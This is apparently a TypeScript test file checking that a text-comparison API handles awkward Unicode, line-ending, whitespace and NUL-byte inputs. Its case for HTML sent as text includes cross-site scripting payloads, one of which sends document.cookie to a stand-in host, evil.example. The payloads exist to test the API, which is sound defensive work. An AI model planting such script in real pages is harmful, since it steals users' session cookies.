import t from 'tap';
import { testApp } from '../fixtures/app.js';
import { ARTICLE, runTextCases, type TextCase } from '../fixtures/hostile-texts.js';

/**
 * Texts a scraper may send that are valid requests but hostile to a text pipeline. Each gets a
 * 200 whose every offset slices exactly to the claim's text in the text as submitted (UTF-16, including
 * surrogate pairs, combining marks and CR/CRLF), with no content silently lost. Large inputs are in
 * texts-large.ts.
 */

const cases: TextCase[] = [
  {
    name: 'lone surrogates',
    original: 'The council \ud800approved the budget. Critics \udfff objected.\n\n\udc00',
    rewrite: 'The council approved \ud83d the budget. Critics objected.',
  },
  {
    name: 'emoji, ZWJ sequences and flags',
    original:
      '🔥 The council approved the budget 👩‍👩‍👧‍👦. It includes money for schools' +
      ' 🏫🇺🇦.\n\nCritics said the plan was rushed 😡.',
    rewrite: 'The council approved the budget 👩‍👩‍👧‍👦. Critics said the plan was rushed 😡. 🇺🇦🇺🇦',
  },
  {
    name: 'CJK text',
    original: '议会周一批准了预算。预算包括学校经费。\n\n批评者说计划很仓促。市长不同意。',
    rewrite: '市长不同意。议会周一批准了预算。東京でも同じ議論があった。',
  },
  {
    name: 'right-to-left text with bidi controls',
    original:
      'وافق المجلس على الميزانية يوم الاثنين. وقال المنتقدون إن الخطة' +
      ' متسرعة.\n\n\u202eThe council approved\u202c the budget. שלום עולם.',
    rewrite: 'وافق المجلس على الميزانية يوم الاثنين. \u2067שלום\u2069 עולם.',
  },
  {
    name: 'combining marks and decomposed accents',
    original: 'Zoe\u0301 met Jose\u0301 in Sa\u0303o Paulo. Z̸̡̢͖̟̤a̵̧̛̘͚l̷̰͎g̶̣̈́o̴̜͗ text' + ' followed.\n\nThe cafe\u0301 closed.',
    rewrite: 'Zoé met José in São Paulo. The cafe\u0301 closed.',
  },
  {
    name: 'CRLF line endings',
    original: ARTICLE.replace(/\n/g, '\r\n'),
    rewrite: `${ARTICLE.replace(/\n/g, '\r\n')}\r\n`,
  },
  {
    name: 'CR-only line endings',
    original: ARTICLE.replace(/\n/g, '\r'),
    rewrite: 'Critics said the plan was rushed.\r\rThe council approved the budget on Monday.',
    check: (t, out) =>
      t.ok(out.original.paragraphs.length >= 2, `CR CR separates paragraphs (${out.original.paragraphs.length})`),
  },
  {
    name: 'HTML with scripts sent as text',
    original:
      '<p>The council approved the budget.</p><script>alert(document.cookie)</script><img src=x onerror="alert(1)">',
    rewrite: '"><script>fetch("//evil.example/?c="+document.cookie)</script> The council approved the budget.',
  },
  {
    name: 'a one-word article',
    original: 'Ceasefire.',
    rewrite: 'Ceasefire',
    check: (t, out) => {
      t.equal(out.original.claims.length, 1);
      t.equal(out.rewrite.claims.length, 1);
    },
  },
  { name: 'a one-character article', original: 'x', rewrite: '.' },
  { name: 'only punctuation', original: '... !!! ??? — – ***', rewrite: '"""' },
  {
    name: 'zero-width and odd spaces',
    original: 'The\u200bcouncil\u00a0approved\u2028the\u2029budget.\ufeff Critics\u3000objected.',
    rewrite: '\ufeffThe council approved the budget.',
  },
];

await runTextCases(cases);

// A NUL is not text: such a field is refused (415, naming it) rather than compared as claims of garbage.
t.test('415 BINARY_CONTENT: NUL bytes inside sentences', async (t) => {
  const app = await testApp(t, { config: { inlineMaxChars: 0 } });
  const res = await app.inject({
    method: 'POST',
    url: '/v1/compare',
    payload: {
      original: { text: 'The council\u0000 approved the budget.\u0000\n\n\u0000Critics objected.' },
      rewrite: { text: 'The council approved the budget. Critics objected.' },
    },
  });
  t.equal(res.statusCode, 415);
  t.match(res.json(), { code: 'BINARY_CONTENT', errors: [{ field: 'body.original.text', rule: 'text' }] });
});
